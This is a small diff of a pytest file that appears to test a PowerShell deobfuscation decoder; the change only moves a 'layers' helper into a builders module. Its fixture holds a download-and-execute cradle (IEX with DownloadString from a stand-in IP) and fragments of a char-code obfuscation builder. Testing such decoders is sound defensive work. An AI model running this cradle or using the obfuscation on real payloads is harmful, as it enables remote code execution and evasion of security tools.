@@ -15,9 +15,7 @@ import random
 
 import pytest
 
-from asisdk.decode import unpack
-
-from .test_finds import check_offsets
+from .builders import layers
 
 PAYLOAD = "Write-Host 'Hello World!'; IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
 
@@ -113,12 +111,6 @@ def whitespace(payload: str, seed: int) -> str:
         f"((-jOiN ($xZqTw[0..($xZqTw.Length-1)])).Trim('{delimiter} ').Split('{delimiter}')"
         f" | % {{ ([Char][Int]$_) }})) | & ( $env:ComSpec[4,15,25]-Join'') }}"
     )
-
-
-def layers(text: str) -> list[tuple[str, str | None]]:
-    result = unpack(text)
-    check_offsets(text, result)
-    return [(layer.encoding, layer.text) for layer in result.layers]
 
 
 @pytest.mark.parametrize("seed", range(24))
